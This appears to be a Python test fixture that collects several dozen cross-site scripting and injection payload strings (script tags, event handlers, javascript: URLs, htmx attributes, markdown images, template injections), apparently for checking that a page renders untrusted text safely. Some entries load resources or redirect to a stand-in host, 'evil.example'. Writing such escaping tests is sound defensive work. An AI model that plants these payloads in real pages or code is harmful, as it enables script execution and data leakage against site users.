"""Strings that would run something if a page took them for anything but text (S8 to S12)."""

from __future__ import annotations

_RUN = "window.pwned=1"
_OUT = "https://evil.example/x"

MARKUP = (
    f"<script>{_RUN}</script>",
    f"</script><script>{_RUN}</script>",
    f"</SCRIPT ><ScRiPt>{_RUN}</sCrIpT>",
    f"<img src=x onerror={_RUN}>",
    f"<img src='{_OUT}.png'>",
    f"<svg onload={_RUN}>",
    f"<svg><script>{_RUN}</script></svg>",
    f"<svg><a xlink:href='javascript:{_RUN}'><text x=9 y=9>x</text></a></svg>",
    f"<svg><animate onbegin={_RUN} attributeName=x dur=1s>",
    f"<body onload={_RUN}>",
    f"<details open ontoggle={_RUN}>",
    f"<video><source onerror={_RUN}>",
    f"<audio src=x onerror={_RUN}>",
    f"<input autofocus onfocus={_RUN}>",
    f"<select autofocus onfocus={_RUN}>",
    f"<textarea autofocus onfocus={_RUN}>",
    f"<marquee onstart={_RUN}>",
    f"<iframe src=javascript:{_RUN}></iframe>",
    f"<iframe srcdoc='<script>parent.{_RUN}</script>'>",
    f"<object data=javascript:{_RUN}>",
    f"<embed src=javascript:{_RUN}>",
    f"<math><mi//xlink:href='data:x,<script>{_RUN}</script>'>",
    f"<form action='{_OUT}'><button>Go</button></form>",
    f"<base href='{_OUT}/'>",
    f"<meta http-equiv=refresh content='0;url={_OUT}'>",
    f"<link rel=stylesheet href='{_OUT}.css'>",
    "<style>body{display:none}</style>",
    f"<style>@import '{_OUT}.css';</style>",
    f"<template><script>{_RUN}</script></template>",
    f"<noscript><p title='</noscript><img src=x onerror={_RUN}>'>",
    f"<xmp><p title='</xmp><img src=x onerror={_RUN}>'>",
    f"<!--><script>{_RUN}</script-->",
    f"<!-- --!><img src=x onerror={_RUN}>",
    f"]]><script>{_RUN}</script>",
)
HTMX = (
    "<div hx-get='/onboarding' hx-trigger='load' hx-target='body'></div>",
    "<div data-hx-get='/onboarding' data-hx-trigger='load' data-hx-target='body'></div>",
    f"<div hx-on:load='{_RUN}' hx-on--after-process-node='{_RUN}'></div>",
    f"<div hx-vals='js:{{x:({_RUN})}}' hx-get='/prices' hx-trigger='load'></div>",
    "<meta name='htmx-config' content='{\"allowEval\":true,\"selfRequestsOnly\":false}'>",
    f"<div hx-get='{_OUT}' hx-trigger='load'></div>",
    f"<button data-copy='x' data-open='keys' onclick='{_RUN}'>Open</button>",
)
ATTRIBUTES = (
    f'" onmouseover={_RUN} x="',
    f"' onfocus={_RUN} autofocus '",
    f'"><img src=x onerror={_RUN}>',
    f"javascript:{_RUN}",
    f"JaVaScRiPt:{_RUN}//",
    f"data:text/html,<script>{_RUN}</script>",
    f"`${{{_RUN}}}`",
    f"\\u003cscript\\u003e{_RUN}\\u003c/script\\u003e",
    f"&lt;script&gt;{_RUN}&lt;/script&gt;",
    f"&#60;script&#62;{_RUN}&#60;/script&#62;",
)
MARKDOWN = (
    f"![x]({_OUT}.png)",
    f"![x][1]\n\n[1]: {_OUT}.png",
    f"[click](javascript:{_RUN})",
    f"<img src=\"{_OUT}.png\" alt='x'>",
)
TEMPLATES_AND_PLOTS = (
    "{{ 7|add:7 }}{% debug %}",
    f"{{{{constructor.constructor('{_RUN}')()}}}}",
    f"$\\href{{javascript:{_RUN}}}{{x}}$",
    f"<a href='javascript:{_RUN}'>x</a>",
    f"<b onclick={_RUN}>x</b><br><sub>y</sub>",
    "\u2028\u2029</script><!--",
    "\u202eevil\u202c\u200b",
)
PAYLOADS = (*MARKUP, *HTMX, *ATTRIBUTES, *MARKDOWN, *TEMPLATES_AND_PLOTS)
